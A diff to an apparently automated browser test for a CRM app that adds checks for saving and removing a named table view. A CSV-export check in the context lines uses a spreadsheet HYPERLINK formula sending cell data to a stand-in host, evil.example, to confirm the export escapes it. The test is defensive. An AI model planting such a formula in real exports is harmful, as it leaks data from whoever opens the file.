@@ -337,7 +337,7 @@ async function run() {
     'Q3 roadshow=Claim Approved'], stages.join());
   ok('Acme reviews an MDF claim (approved, then Claim Approved) and deal registrations in its inbox: conflicts shown, approved with an expiry date, a second approval refused, rejected with a reason');
 
-
+  // the table: filter by stage and name, sort, CSV of what is shown
   await a.getByRole('link', {name: 'Table'}).click();
   await a.getByRole('link', {name: 'Canary Deal'}).waitFor();
   await a.getByLabel('Stage').selectOption('Proposal');
@@ -360,6 +360,22 @@ async function run() {
   assert.equal(await a.getByLabel('Stage').inputValue(), 'Solution');
   assert.equal(await a.getByLabel('Name contains').inputValue(), 'canary');
   await a.getByRole('columnheader', {name: 'Name'}).and(a.locator('[aria-sort="descending"]')).waitFor();
+  // a named table view, kept on the node: saved, chosen on a plain table,
+  // it sets the filters and the sort again; then removed
+  await a.getByLabel('Table view name').fill('solution-canary');
+  await a.getByRole('button', {name: 'Save table view'}).click();
+  await a.getByRole('status').filter({hasText: 'Saved table view solution-canary'}).waitFor();
+  await a.goto(`${ACME}/table`);
+  await a.getByRole('link', {name: 'Canary Deal'}).waitFor();
+  assert.equal(await a.getByLabel('Stage').inputValue(), '');
+  await a.getByLabel('Saved table view').selectOption('solution-canary');
+  await a.getByRole('columnheader', {name: 'Name'}).and(a.locator('[aria-sort="descending"]')).waitFor();
+  assert.equal(await a.getByLabel('Stage').inputValue(), 'Solution');
+  assert.equal(await a.getByLabel('Name contains').inputValue(), 'canary');
+  assert.match(a.url(), /\/table\?stage=Solution&q=canary&sort=-title$/);
+  await a.getByRole('button', {name: 'Remove table view'}).click();
+  await a.getByRole('status').filter({hasText: 'Removed table view solution-canary'}).waitFor();
+  assert.equal(await a.getByLabel('Saved table view').getByRole('option').count(), 1);
   // a name a spreadsheet would run as a formula is downloaded with an
   // apostrophe in front (spec/crm.md "Formulas"); plain numbers are not
   const formula = '=HYPERLINK("https://evil.example/?"&A1,"formula canary")';
@@ -377,7 +393,7 @@ async function run() {
     a.getByRole('button', {name: 'Download CSV'}).click()]);
   assert.match(readFileSync(await fdl.path(), 'utf8'),
     /^Name,Stage,Close date\r\n"'=HYPERLINK\(""https:\/\/evil\.example\/\?""&A1,""formula canary""\)",Prospecting,\r\n$/);
-  ok('the table filters by stage and name, sorts, and downloads what it shows as CSV (a formula behind an apostrophe); its address keeps the filters and sort across a reload');
+  ok('the table filters by stage and name, sorts, and downloads what it shows as CSV (a formula behind an apostrophe); its address keeps the filters and sort across a reload; a named table view kept on the node sets them again, and is removed');
 
   // partners: each side sees the other connected, with the same safety code
   await a.getByRole('link', {name: 'Partners'}).click();
